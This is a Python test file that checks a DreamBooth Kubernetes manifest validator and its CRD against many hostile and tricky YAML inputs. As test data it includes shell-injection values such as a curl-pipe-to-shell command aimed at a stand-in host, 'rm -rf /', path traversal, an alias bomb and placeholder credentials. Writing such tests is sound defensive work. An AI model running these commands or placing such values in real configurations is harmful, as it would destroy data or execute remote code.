"""Hostile and odd manifest files, judged twice: by ``dreambooth validate --cluster`` (run
in-process: the typed models, through the path every job file takes) and by the CRD as the
API server applies it (schema with strict field validation, defaults, then CEL).

Each refused file must be refused by both, with the field named on stderr, the exit code
for invalid configs and no traceback; where the CRD cannot state a rule the table says why
(``model_only``) and the test asserts that the CRD lets it through, so the table is exactly
what the API server refuses. Files that cannot be read as an object at all (encodings,
YAML bombs) never reach the API server: kubectl refuses them first, and so does
``dreambooth validate``. Each valid file must be accepted by both.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openapi_schema_validator import OAS30Validator

from dreambooth.api import manifest
from dreambooth.api.exitcodes import ExitCode
from dreambooth.api.manifest import ManifestError
from dreambooth.cli import main
from tests.api.test_crd import SPEC_SCHEMA, apply_crd_defaults, cel_violations

AWS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
HF_TOKEN = "hf_" + "aBcD1234" * 5

HEAD = """\
apiVersion: dreambooth.io/v1alpha1
kind: DreamBoothJob
metadata:
  name: toy-cat
  namespace: team-a
"""
BASE = {
    "baseModel": "{uri: s3://models/sd15/}",
    "instance": "{uri: s3://training-data/toy-cat/, prompt: a photo of zwx toy cat}",
}


def job(metadata: str = "", **sections: str) -> str:
    """A manifest: the minimal job with YAML text for each spec section (flow or block),
    and extra metadata lines."""
    spec = {**BASE, **sections}
    body = "".join(f"  {line}\n" for line in metadata.splitlines())
    lines = []
    for name, text in spec.items():
        if "\n" in text:
            lines.append(f"  {name}:\n" + "".join(f"    {line}\n" for line in text.splitlines()))
        else:
            lines.append(f"  {name}: {text}\n")
    return HEAD + body + "spec:\n" + "".join(lines)


#: the CRD never sees it: not an object kubectl could send
FILE = "file"
#: kubectl's strict field validation and the CRD's schema, defaults and CEL refuse it
CRD = "crd"


@dataclass(frozen=True)
class Hostile:
    id: str
    text: str | bytes
    #: the field (or, for a FILE case, a piece of the message) stderr must name
    field: str
    #: FILE, CRD, or why only the models can refuse it (the CRD must then accept it)
    crd: str = CRD
    #: text that must never appear in the output (a pasted credential)
    secret: str | None = None


def _model_only(why: str) -> str:
    return f"model-only: {why}"


METADATA = _model_only("metadata is checked by the API server's ObjectMeta validation, not the CRD")
MAP_KEYS = _model_only(
    "a schema cannot check a map's keys (CEL on keys of unbounded length is over the API server's cost limit)"
)
PRESET = _model_only("depends on the preset's values for the family the trainer detects")
STRICTER = _model_only("stricter than the API server, where it helps: pod hostnames are <name>-<index>, a DNS label")
LORA = "{method: lora}"

HOSTILE = [
    # --- encodings and YAML tricks that never become an object -----------------------------
    Hostile("utf-32", "\ufeff".encode("utf-32-le") + job().encode("utf-32-le"), "UTF-32", FILE),
    Hostile("overlong-utf8-slash", job().encode().replace(b"toy cat}", b"toy \xc0\xaf cat}"), "not UTF-8", FILE),
    Hostile("duplicate-quoted-key", job(training='{"steps": 10, steps: 20}'), "duplicate key 'steps'", FILE),
    Hostile(
        "duplicate-after-merge-key",
        job(training="{<<: {steps: 10}, learningRate: 2e-6, learningRate: 1e-6}"),
        "duplicate key",
        FILE,
    ),
    Hostile(
        "alias-bomb-in-prompt",
        HEAD
        + "x: &a ["
        + ", ".join(["zwx"] * 60)
        + "]\n"
        + "".join(f"y{i}: &a{i} [{', '.join(['*a' if i == 0 else f'*a{i - 1}'] * 60)}]\n" for i in range(3))
        + "spec: {}\n",
        "once its aliases are expanded",
        FILE,
    ),
    Hostile("bell-in-yaml", job().replace("toy cat}", "toy \x07cat}"), "control character", FILE),
    Hostile("second-document-empty-kind", job() + "---\napiVersion: v1\nmetadata: {name: x}\n", "no kind", FILE),
    # --- traversal, URIs and what looks like shell --------------------------------------
    Hostile(
        "instance-traversal",
        job(instance="{uri: 's3://training-data/cat/../../etc/', prompt: a photo of zwx cat}"),
        "spec.instance.uri",
    ),
    Hostile("output-dot-segment", job(output="{uri: pvc://data/./runs/}"), "spec.output.uri"),
    Hostile("hub-revision-traversal", job(baseModel="{uri: 'hf://org/sd15@../../main'}"), "spec.baseModel.uri"),
    Hostile("output-fragment", job(output="{uri: 's3://outputs/run#frag'}"), "spec.output.uri"),
    Hostile(
        "uri-userinfo",
        job(instance=f"{{uri: 's3://{AWS_KEY_ID}:{AWS_SECRET}@training-data/cat/', prompt: a photo of zwx cat}}"),
        "spec.instance.uri",
        secret=AWS_SECRET,
    ),
    Hostile(
        "uri-userinfo-one-slash",
        job(instance=f"{{uri: 's3:/{AWS_KEY_ID}:{AWS_SECRET}@bucket/x', prompt: a photo of zwx cat}}"),
        "spec.instance.uri",
        secret=AWS_SECRET,
    ),
    Hostile("file-uri-in-cluster", job(baseModel="{uri: 'file:///etc/passwd'}"), "spec.baseModel.uri"),
    Hostile("hub-backslash", job(baseModel="{uri: 'hf://org\\name'}"), "spec.baseModel.uri"),
    Hostile("image-command-substitution", job(resources="{image: '$(curl evil.sh | sh)'}"), "spec.resources.image"),
    Hostile("image-command-list", job(resources="{image: 'trainer:latest; rm -rf /'}"), "spec.resources.image"),
    Hostile("image-python-c", job(resources="{image: \"python -c 'import os'\"}"), "spec.resources.image"),
    Hostile("image-uppercase-path", job(resources="{image: ghcr.io/Org/Trainer:1}"), "spec.resources.image"),
    Hostile("image-empty-tag", job(resources="{image: 'ghcr.io/org/trainer:'}"), "spec.resources.image"),
    Hostile("image-tag-too-long", job(resources=f"{{image: 'trainer:{'t' * 129}'}}"), "spec.resources.image"),
    Hostile(
        "revision-shell", job(baseModel="{uri: hf://org/sd15, revision: 'main;reboot'}"), "spec.baseModel.revision"
    ),
    Hostile("endpoint-path-shell", job(storage="{endpoint: 'minio:9000/$(id)'}"), "spec.storage.endpoint"),
    Hostile(
        "prompt-ansi-escape",
        job(instance='{uri: s3://training-data/cat/, prompt: "\\e[2J a photo of zwx cat"}'),
        "spec.instance.prompt",
    ),
    Hostile(
        "prompt-newline",
        job(instance='{uri: s3://training-data/cat/, prompt: "a photo\\nof zwx"}'),
        "spec.instance.prompt",
    ),
    Hostile("prompt-blank", job(instance="{uri: s3://training-data/cat/, prompt: '   '}"), "spec.instance.prompt"),
    Hostile(
        "prompt-unicode-blank",
        job(instance='{uri: s3://training-data/cat/, prompt: "\\u00a0\\u3000"}'),
        "spec.instance.prompt",
    ),
    Hostile(
        "negative-prompt-tab", job(validation='{negativePrompt: "blurry\\tugly"}'), "spec.validation.negativePrompt"
    ),
    Hostile("validation-prompt-del", job(validation='{prompts: ["zwx\\x7f cat"]}'), "spec.validation.prompts[0]"),
    # --- Kubernetes object rules ---------------------------------------------------------
    Hostile(
        "node-selector-key-space",
        job(resources="{nodeSelector: {'gpu type': a100}}"),
        "spec.resources.nodeSelector.gpu type",
        MAP_KEYS,
    ),
    Hostile(
        "node-selector-key-prefix-case",
        job(resources="{nodeSelector: {'Nvidia.com/gpu': a100}}"),
        "spec.resources.nodeSelector.Nvidia.com/gpu",
        MAP_KEYS,
    ),
    Hostile(
        "node-selector-key-too-long",
        job(resources=f"{{nodeSelector: {{{'k' * 64}: a}}}}"),
        "spec.resources.nodeSelector.kkkkkkkk",
        MAP_KEYS,
    ),
    Hostile(
        "node-selector-value-slash",
        job(resources="{nodeSelector: {gpu: nvidia/a100}}"),
        "spec.resources.nodeSelector.gpu",
    ),
    Hostile(
        "node-selector-value-dash-end", job(resources="{nodeSelector: {gpu: a100-}}"), "spec.resources.nodeSelector.gpu"
    ),
    Hostile(
        "node-selector-value-yaml-bool", job(resources="{nodeSelector: {gpu: true}}"), "spec.resources.nodeSelector.gpu"
    ),
    Hostile(
        "toleration-exists-with-value",
        job(resources="{tolerations: [{key: gpu, operator: Exists, value: a100}]}"),
        "spec.resources.tolerations[0].value",
    ),
    Hostile(
        "toleration-seconds-no-schedule",
        job(resources="{tolerations: [{key: gpu, effect: NoSchedule, tolerationSeconds: 60}]}"),
        "spec.resources.tolerations[0].tolerationSeconds",
    ),
    Hostile(
        "toleration-seconds-no-effect",
        job(resources="{tolerations: [{key: gpu, operator: Exists, tolerationSeconds: 60}]}"),
        "spec.resources.tolerations[0].tolerationSeconds",
    ),
    Hostile(
        "toleration-no-key-equal",
        job(resources="{tolerations: [{value: x}]}"),
        "spec.resources.tolerations[0].operator",
    ),
    Hostile(
        "toleration-key-bang",
        job(resources="{tolerations: [{key: 'bad key!', operator: Exists}]}"),
        "spec.resources.tolerations[0].key",
    ),
    Hostile(
        "toleration-value-too-long",
        job(resources=f"{{tolerations: [{{key: gpu, value: {'v' * 64}}}]}}"),
        "spec.resources.tolerations[0].value",
    ),
    Hostile(
        "toleration-effect-case",
        job(resources="{tolerations: [{key: gpu, effect: noschedule}]}"),
        "spec.resources.tolerations[0].effect",
    ),
    Hostile(
        "secret-name-case",
        job(storage="{credentialsSecret: {name: MinioCreds}}"),
        "spec.storage.credentialsSecret.name",
    ),
    Hostile(
        "secret-key-dotdot",
        job(storage="{credentialsSecret: {name: minio, secretKeyKey: '..'}}"),
        "spec.storage.credentialsSecret.secretKeyKey",
    ),
    Hostile(
        "secret-key-slash",
        job(storage="{credentialsSecret: {name: minio, accessKeyKey: aws/key}}"),
        "spec.storage.credentialsSecret.accessKeyKey",
    ),
    Hostile(
        "secret-key-space",
        job(storage="{credentialsSecret: {name: minio, secretKeyKey: 'secret key'}}"),
        "spec.storage.credentialsSecret.secretKeyKey",
    ),
    Hostile("endpoint-port-zero", job(storage="{endpoint: 'minio:0'}"), "spec.storage.endpoint"),
    Hostile("endpoint-port-too-big", job(storage="{endpoint: 'minio:65536'}"), "spec.storage.endpoint"),
    Hostile("endpoint-scheme", job(storage="{endpoint: 'https://minio'}"), "spec.storage.endpoint"),
    Hostile(
        "namespace-underscore",
        job(metadata="namespace: Team_A").replace("  namespace: team-a\n", ""),
        "metadata.namespace",
        METADATA,
    ),
    Hostile(
        "namespace-too-long",
        job(metadata=f"namespace: {'n' * 64}").replace("  namespace: team-a\n", ""),
        "metadata.namespace",
        METADATA,
    ),
    Hostile("label-key-space", job(metadata="labels: {'my label': x}"), "metadata.labels.my label", METADATA),
    Hostile("label-value-too-long", job(metadata=f"labels: {{team: {'v' * 64}}}"), "metadata.labels.team", METADATA),
    Hostile(
        "kueue-queue-with-space",
        job(metadata="labels: {kueue.x-k8s.io/queue-name: 'team a'}"),
        "metadata.labels.kueue.x-k8s.io/queue-name",
        METADATA,
    ),
    Hostile("name-with-dot", job().replace("name: toy-cat", "name: toy.cat"), "metadata.name", STRICTER),
    Hostile(
        "priority-class-spaces",
        job(resources="{priorityClassName: system node critical}"),
        "spec.resources.priorityClassName",
    ),
    Hostile(
        "gpu-resource-uppercase",
        job(resources="{gpu: {resourceName: NVIDIA.com/gpu}}"),
        "spec.resources.gpu.resourceName",
    ),
    Hostile("memory-gigabytes", job(resources="{memory: 64GB}"), "spec.resources.memory"),
    # --- snake_case -----------------------------------------------------------------------
    Hostile("snake-learning-rate", job(training="{learning_rate: 1e-6}"), "spec.training.learning_rate"),
    Hostile("snake-base-model", job().replace("baseModel:", "base_model:"), "spec.base_model"),
    Hostile("snake-gpus-per-node", job(resources="{gpus_per_node: 2}"), "spec.resources.gpus_per_node"),
    Hostile(
        "snake-credentials-secret",
        job(storage="{credentials_secret: {name: minio}}"),
        "spec.storage.credentials_secret",
    ),
    Hostile("snake-in-merge-key", job(training="{<<: {learning_rate: 1e-6}}"), "spec.training.learning_rate"),
    # --- YAML that means something else -------------------------------------------------
    Hostile("precision-no-unquoted", job(training="{mixedPrecision: no}"), "spec.training.mixedPrecision"),
    Hostile("prompt-yes-unquoted", job(instance="{uri: s3://training-data/cat/, prompt: yes}"), "spec.instance.prompt"),
    Hostile("steps-not-a-number", job(training="{steps: 4e2.5}"), "spec.training.steps"),
    Hostile("method-capitalised", job(training="{method: Lora}"), "spec.training.method"),
    Hostile("steps-underscored-huge", job(training="{steps: 1_000_000_000}"), "spec.training.steps"),
    Hostile("learning-rate-infinite", job(training="{learningRate: .inf}"), "spec.training.learningRate"),
    Hostile(
        "alias-class-prompt-is-instance-prompt",
        job(
            instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
            prior="{enabled: true, classPrompt: *p}",
        ),
        "spec.prior.classPrompt",
    ),
    # --- meaning ------------------------------------------------------------------------
    Hostile(
        "lora-no-target-modules",
        job(training="{method: lora, lora: {targetModules: []}}"),
        "spec.training.lora.targetModules: List should have at least 1 item after validation, "
        "not 0: LoRA would train nothing",
    ),
    Hostile(
        "ti-placeholder-is-initializer",
        job(
            instance="{uri: s3://training-data/cat/, prompt: a photo of cat}",
            training="{textualInversion: {placeholderToken: cat, initializerToken: cat}}",
        ),
        "spec.training.textualInversion.placeholderToken",
    ),
    Hostile(
        "ti-placeholder-not-a-word",
        job(training="{textualInversion: {placeholderToken: zw, initializerToken: cat}}"),
        "spec.training.textualInversion.placeholderToken",
    ),
    Hostile("output-inside-photos", job(output="{uri: s3://training-data/toy-cat/out/}"), "spec.output.uri"),
    Hostile("output-is-photos", job(output="{uri: s3://training-data/toy-cat}"), "spec.output.uri"),
    Hostile(
        "class-images-inside-photos",
        job(prior="{enabled: true, classPrompt: a photo of a cat, uri: s3://training-data/toy-cat/cats/}"),
        "spec.prior.uri",
    ),
    Hostile("class-prompt-prior-off", job(prior="{classPrompt: a photo of a cat}"), "spec.prior.classPrompt"),
    Hostile("num-images-prior-off", job(prior="{enabled: false, numImages: 50}"), "spec.prior.numImages"),
    Hostile("loss-weight-prior-off", job(prior="{lossWeight: 0.5}"), "spec.prior.lossWeight"),
    Hostile(
        "validation-prompts-off", job(validation="{enabled: false, prompts: [a zwx cat]}"), "spec.validation.prompts"
    ),
    Hostile(
        "inference-steps-off", job(validation="{enabled: false, inferenceSteps: 30}"), "spec.validation.inferenceSteps"
    ),
    Hostile(
        "text-encoder-steps-without-text-encoder",
        job(training="{textEncoderSteps: 10}"),
        "spec.training.textEncoderSteps",
    ),
    Hostile(
        "sdxl-single-file",
        job(baseModel="{uri: s3://models/sdxl/, family: sdxl}", output="{formats: [safetensors]}"),
        "spec.output.formats",
    ),
    Hostile(
        "sdxl-textual-inversion",
        job(
            baseModel="{uri: s3://models/sdxl/, family: sdxl}",
            training="{method: full, textualInversion: {placeholderToken: zwx, initializerToken: cat}}",
        ),
        "spec.training.textualInversion",
    ),
    Hostile("revision-for-s3", job(baseModel="{uri: s3://models/sd15/, revision: main}"), "spec.baseModel.revision"),
    Hostile("lora-format-twice", job(training=LORA, output="{formats: [lora, lora]}"), "spec.output.formats"),
    # --- credentials pasted into the wrong field ----------------------------------------------
    Hostile(
        "aws-secret-in-prompt",
        job(instance=f"{{uri: s3://training-data/cat/, prompt: 'zwx cat {AWS_SECRET}'}}"),
        "spec.instance.prompt",
        secret=AWS_SECRET,
    ),
    Hostile(
        "aws-key-id-in-validation-prompt",
        job(validation=f"{{prompts: ['zwx {AWS_KEY_ID}']}}"),
        "spec.validation.prompts[0]",
        secret=AWS_KEY_ID,
    ),
    Hostile(
        "hf-token-in-negative-prompt",
        job(validation=f"{{negativePrompt: {HF_TOKEN}}}"),
        "spec.validation.negativePrompt",
        secret=HF_TOKEN,
    ),
    Hostile(
        "secret-in-class-prompt",
        job(prior=f"{{enabled: true, classPrompt: 'a cat {AWS_SECRET}'}}"),
        "spec.prior.classPrompt",
        secret=AWS_SECRET,
    ),
    Hostile(
        "secret-in-long-wrong-prompt",
        job(instance="{uri: s3://training-data/cat/, prompt: '" + "x" * 1001 + f" {AWS_SECRET}'}}"),
        "spec.instance.prompt",
        secret=AWS_SECRET,
    ),
    Hostile(
        "secret-in-image",
        job(resources=f"{{image: 'user:{AWS_SECRET}@registry/trainer'}}"),
        "spec.resources.image",
        secret=AWS_SECRET,
    ),
    # --- rules the CRD cannot state -------------------------------------------------------
    Hostile(
        "face-batch-over-gpus", job(preset="face", resources="{gpusPerNode: 4}"), "spec.training.batchSize", PRESET
    ),
    Hostile(
        "object-checkpoint-over-steps",
        job(preset="object", checkpointing="{everySteps: 500}"),
        "spec.checkpointing.everySteps",
        PRESET,
    ),
    Hostile(
        "hugepages-without-memory",
        job(resources="{extraResources: {hugepages-2Mi: 1Gi}}"),
        "spec.resources.extraResources",
        MAP_KEYS,
    ),
    Hostile(
        "device-fraction",
        job(resources="{extraResources: {rdma/hca: 500m}}"),
        "spec.resources.extraResources.rdma/hca",
        MAP_KEYS,
    ),
]

DIGEST = "sha256:" + "0123456789abcdef" * 4
VALID = {
    "yaml-1.2-numbers": job(training="{learningRate: 2e-6, steps: 0x190}"),
    "bom-and-crlf": "\ufeff" + job().replace("\n", "\r\n"),
    "prompt-cjk-emoji": job(instance="{uri: s3://training-data/cat/, prompt: 'a photo of zwx 猫 🐱'}"),
    "prompt-shell-characters": job(
        instance="{uri: s3://training-data/cat/, prompt: 'a photo of zwx cat; rm -rf / $(x) `id`'}"
    ),
    "prompt-long-word": job(
        instance="{uri: s3://training-data/cat/, prompt: a pneumonoultramicroscopicsilicovolcanoconiosis zwx cat}"
    ),
    "image-registry-port-digest": job(resources=f"{{image: 'registry.local:5000/team/trainer@{DIGEST}'}}"),
    "image-ipv6-registry": job(resources="{image: '[fd00::1]:5000/trainer:1.0'}"),
    "image-tag-and-digest": job(resources=f"{{image: 'ghcr.io/org/dream_booth-trainer:v1.2_rc.1@{DIGEST}'}}"),
    "node-selector-real-keys": job(
        resources="{nodeSelector: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB, "
        "node.kubernetes.io/instance-type: p4d.24xlarge}}"
    ),
    "node-selector-empty-value": job(resources="{nodeSelector: {dedicated: ''}}"),
    "toleration-everything": job(resources="{tolerations: [{operator: Exists}]}"),
    "toleration-no-execute-seconds": job(
        resources="{tolerations: [{key: node.kubernetes.io/unreachable, "
        "operator: Exists, effect: NoExecute, tolerationSeconds: 300}]}"
    ),
    "anchor-reused-prompt": job(
        instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
        validation="{prompts: [*p, a zwx cat on the moon]}",
    ),
    "secret-keys-with-dots": job(
        storage="{credentialsSecret: {name: minio.creds, accessKeyKey: access.key, secretKeyKey: .secret-key}}"
    ),
    "endpoint-ip-top-port": job(storage="{endpoint: '10.0.0.12:65535', secure: false}"),
    "precision-no-quoted": job(training="{mixedPrecision: 'no'}"),
    "output-sibling-prefix": job(output="{uri: s3://training-data/toy-cat-out/}"),
    "hub-commit": job(baseModel="{uri: 'hf://org/sd15@" + "a" * 40 + "'}"),
    "kueue-labels-annotations": job(
        metadata="labels: {kueue.x-k8s.io/queue-name: team-a, app: ''}\n"
        "annotations: {note: 'anything: even spaces and $(x)'}"
    ),
    "validation-off-keeps-export-scheduler": job(validation="{enabled: false, scheduler: dpm}"),
    "ti-with-its-own-token": job(
        instance="{uri: s3://training-data/cat/, prompt: a photo of <zwx> cat}",
        training="{textualInversion: {placeholderToken: <zwx>, initializerToken: cat}}",
    ),
    "prior-face-own-class-images": job(preset="face", prior="{uri: s3://training-data/people/}"),
}


def run_validate(tmp_path: Path, text: str | bytes, capsys) -> tuple[int, str, str]:
    path = tmp_path / "job.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    code = main(["validate", "--cluster", str(path)])
    out, err = capsys.readouterr()
    return code, out, err


def unknown_fields(obj: Any, schema: dict[str, Any], path: str = "spec") -> list[str]:
    """What kubectl's (and the API server's) strict field validation refuses: names the
    schema does not declare."""
    found = []
    if isinstance(obj, dict) and "properties" in schema:
        for name, value in obj.items():
            if name not in schema["properties"]:
                found.append(f"{path}.{name}")
            else:
                found += unknown_fields(value, schema["properties"][name], f"{path}.{name}")
    elif isinstance(obj, dict) and isinstance(schema.get("additionalProperties"), dict):
        for name, value in obj.items():
            found += unknown_fields(value, schema["additionalProperties"], f"{path}.{name}")
    elif isinstance(obj, list) and isinstance(schema.get("items"), dict):
        for i, item in enumerate(obj):
            found += unknown_fields(item, schema["items"], f"{path}[{i}]")
    return found


def crd_problems(text: str | bytes) -> list[str] | None:
    """What the API server refuses in the file's DreamBoothJob spec ([] for nothing); None
    when the file is no object kubectl could send."""
    try:
        docs = manifest.loads(text.decode() if isinstance(text, bytes) else text)
    except (ManifestError, UnicodeDecodeError):
        return None
    jobs = [d for d in docs if d.kind == "DreamBoothJob"]
    if len(jobs) != len(docs) or len(jobs) != 1:
        return None
    spec = jobs[0].data["spec"]
    problems = unknown_fields(spec, SPEC_SCHEMA)
    problems += [
        ".".join(map(str, e.absolute_path)) + ": " + e.message for e in OAS30Validator(SPEC_SCHEMA).iter_errors(spec)
    ]
    if problems:
        return problems
    return cel_violations(apply_crd_defaults(spec, SPEC_SCHEMA))


def test_the_tables_are_big_enough():
    assert len(HOSTILE) >= 60 and len(VALID) >= 20
    assert len({c.id for c in HOSTILE}) == len(HOSTILE)
    model_only = [c for c in HOSTILE if c.crd.startswith("model-only")]
    assert len(model_only) < len(HOSTILE) / 4, "most rules must be the API server's too"


@pytest.mark.parametrize("case", HOSTILE, ids=lambda c: c.id)
def test_a_hostile_manifest_is_refused_with_the_field_named(case: Hostile, tmp_path, capsys):
    code, out, err = run_validate(tmp_path, case.text, capsys)
    assert code == ExitCode.INVALID_CONFIG, out + err
    assert "Traceback" not in out + err
    assert case.field in err, err
    assert len(err) < 4000, "a message never quotes a huge value whole"
    if case.secret:
        assert case.secret not in out + err and case.secret[:12] not in out + err, err
    crd = crd_problems(case.text)
    if case.crd == FILE:
        assert crd is None, "a file-level problem: the CRD should never see an object"
    elif case.crd == CRD:
        assert crd, "the API server would accept what the models refuse"
        leaf = re.findall(r"[A-Za-z_]+", case.field.split(":")[0])[-1]
        assert any(leaf in problem for problem in crd), f"refused for another reason: {crd}"
    else:
        assert crd == [], f"marked {case.crd}, but the CRD refuses it too: {crd}"


@pytest.mark.parametrize("text", VALID.values(), ids=VALID.keys())
def test_a_tricky_valid_manifest_is_accepted(text, tmp_path, capsys):
    code, out, err = run_validate(tmp_path, text, capsys)
    assert (code, err) == (ExitCode.OK, ""), err
    assert "DreamBoothJob toy-cat: valid" in out
    assert crd_problems(text) == []
